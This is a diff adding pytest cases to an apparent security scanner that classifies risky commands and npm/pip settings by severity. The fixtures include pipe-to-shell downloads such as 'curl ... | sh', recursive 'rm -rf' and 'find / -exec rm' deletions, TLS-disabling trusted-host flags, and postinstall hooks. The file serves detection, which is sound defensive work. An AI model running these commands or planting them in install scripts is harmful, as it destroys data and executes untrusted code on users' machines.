@@ -168,3 +168,65 @@ def test_random_bytes_are_no_trouble() -> None:
         text += "".join(map(chr, draw.choices(range(0xFFFF), k=200)))
         for one in found(text):
             assert 0 <= one.start <= one.end <= len(text)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pip install --trusted-host pypi.org x",
+        "trusted-host = pypi.org",
+        'pip config set global.trusted-host "pypi.org y"',
+    ],
+)
+def test_a_registry_whose_certificate_is_not_checked_is_told(command: str) -> None:
+    assert kinds(command) == ["disabled_tls"]
+
+
+def test_a_registry_in_the_house_may_have_any_certificate() -> None:
+    assert kinds("pip install --trusted-host pypi.internal x") == []
+
+
+def test_where_a_manifest_says_that_it_comes_from_nothing_is_installed() -> None:
+    source = "git+https://github.com/quickdev77/tool.git"
+    assert kinds(f'"repository": {{"type": "git", "url": "{source}"}}') == []
+    assert kinds(f'"dependencies": {{"tool": "{source}"}}') == ["remote_install"]
+
+
+@pytest.mark.parametrize(
+    ("hook", "severity"),
+    [
+        ('"prepare": "tsc && bash scripts/build.sh"', None),
+        ('"postinstall": "bash scripts/build.sh"', Severity.LOW),
+        ('"postinstall": "cat x | sh"', Severity.HIGH),
+        ('"postinstall": "sh -c \'wget x\'"', Severity.HIGH),
+    ],
+)
+def test_an_install_script_of_ones_own_is_told_and_no_more(hook: str, severity: Severity | None) -> None:
+    assert [one.severity for one in found(hook, language="json")] == ([] if severity is None else [severity])
+
+
+@pytest.mark.parametrize(
+    ("text", "language", "severity"),
+    [
+        ("#rm -rf $dir/*", "sh", Severity.LOW),
+        ("rm -rf $dir/* #again", "sh", Severity.HIGH),
+        ('//system("curl https://x-tool.io/a | sh");', "c", Severity.LOW),
+        ('#define RUN system("curl https://x-tool.io/a | sh")', "c", Severity.HIGH),
+    ],
+    ids=["a comment", "a command with one", "slashes", "a macro"],
+)
+def test_a_comment_needs_no_blank_behind_its_sign(text: str, language: str, severity: Severity) -> None:
+    assert [one.severity for one in found(text, language=language)] == [severity]
+
+
+@pytest.mark.parametrize(
+    ("command", "kind"),
+    [
+        ('find / -name "*" -exec rm -f {} +', ["destructive"]),
+        ("find ~ -type f -print0 | xargs -0 rm -f", ["destructive"]),
+        ('find / -name "*.tmp" -exec rm -f {} +', []),
+        ("find . -name '*.log' -print0 | xargs -0 rm -f", []),
+    ],
+)
+def test_what_find_removes_everywhere_is_destructive(command: str, kind: list[str]) -> None:
+    assert kinds(command) == kind
